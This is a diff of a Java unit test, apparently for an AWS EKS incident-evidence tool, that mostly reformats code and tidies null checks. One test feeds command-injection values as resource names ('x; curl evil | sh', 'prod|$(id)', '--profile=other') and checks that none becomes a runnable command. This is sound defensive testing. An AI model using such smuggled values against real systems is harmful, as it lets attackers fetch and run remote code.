@@ -6,6 +6,7 @@ import java.nio.file.Path;
 import java.time.Instant;
 import java.util.List;
 import java.util.Map;
+import java.util.Objects;
 import org.eksrunbook.evidence.Actor;
 import org.eksrunbook.evidence.Ledger;
 import org.eksrunbook.incident.IncidentId;
@@ -43,7 +44,15 @@ class BelongingsTest {
 
     private static MadeBy by(String type, String name, @Nullable String arn) {
         return new MadeBy(
-                type, name, arn, CaseContext.ACCOUNT, CaseContext.REGION, "e1", "id", "the stack perf: it says so", null);
+                type,
+                name,
+                arn,
+                CaseContext.ACCOUNT,
+                CaseContext.REGION,
+                "e1",
+                "id",
+                "the stack perf: it says so",
+                null);
     }
 
     private static Observation call(String event, int minute, Change change, ResourceRef thing, MadeBy... makers) {
@@ -114,8 +123,9 @@ class BelongingsTest {
                         "findings.reviewed",
                         Actor.user("rita"),
                         Map.of("overruled", List.of(Map.of("eventId", "e2", "to", "none"))));
-        assertThat(row("perf").makes()).isNotNull().extracting(Making::listed).isEqualTo(0);
-        assertThat(row("perf").makes().words()).startsWith("Nothing that it made is in the logs that were read.");
+        Making makes = Objects.requireNonNull(row("perf").makes());
+        assertThat(makes.listed()).isZero();
+        assertThat(makes.words()).startsWith("Nothing that it made is in the logs that were read.");
     }
 
     @Test
@@ -136,16 +146,15 @@ class BelongingsTest {
 
     @Test
     void aNameThatTheAttackerMadeUpToBeRunIsInNoCommand() {
-        assertThat(lookUp("AWS::AutoScaling::AutoScalingGroup", "x; curl evil | sh")).isNull();
-        assertThat(lookUp("AWS::AutoScaling::AutoScalingGroup", "--profile=other")).isNull();
+        assertThat(lookUp("AWS::AutoScaling::AutoScalingGroup", "x; curl evil | sh"))
+                .isNull();
+        assertThat(lookUp("AWS::AutoScaling::AutoScalingGroup", "--profile=other"))
+                .isNull();
         assertThat(lookUp("AWS::EKS::Nodegroup", "prod|$(id)")).isNull();
     }
 
     private @Nullable String lookUp(String type, String name) {
-        inventory.build(
-                id, "round " + type + name, List.of(call("e1", 1, Change.CREATED, thing(type, name, null))));
-        Making makes = row(name).makes();
-        assertThat(makes).isNotNull();
-        return makes.lookUp();
+        inventory.build(id, "round " + type + name, List.of(call("e1", 1, Change.CREATED, thing(type, name, null))));
+        return Objects.requireNonNull(row(name).makes()).lookUp();
     }
 }
